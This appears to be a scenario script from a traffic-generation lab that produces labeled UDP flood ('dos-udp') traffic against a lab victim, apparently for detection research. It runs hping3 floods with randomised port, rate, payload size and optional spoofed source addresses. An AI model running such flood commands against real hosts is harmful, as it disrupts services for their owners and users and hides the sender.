# SPDX-License-Identifier: MIT
# label: dos-udp
# source: lab-hping3
# needs: hping3 dnsmasq
# seconds: 60
# UDP packets to one port.
. $lab/victims.sh

servers() {
	victim_names a
}

scenario() {
	_port=$(choose 53 80 443 27015)
	_spoof=$(choose "" "--rand-source")
	_gap=$(choose u300 u1000 u3000)
	_size=$(choose 64 512 1200)
	setting options "--udp -p $_port -i $_gap -d $_size $_spoof"
	intent_begin '*' a udp "$_port"
	on s timeout "$(pick 8 15)" hping3 -q -n --udp -p "$_port" -i "$_gap" \
		-d "$_size" $_spoof "$(addr a)"
	intent_end
}
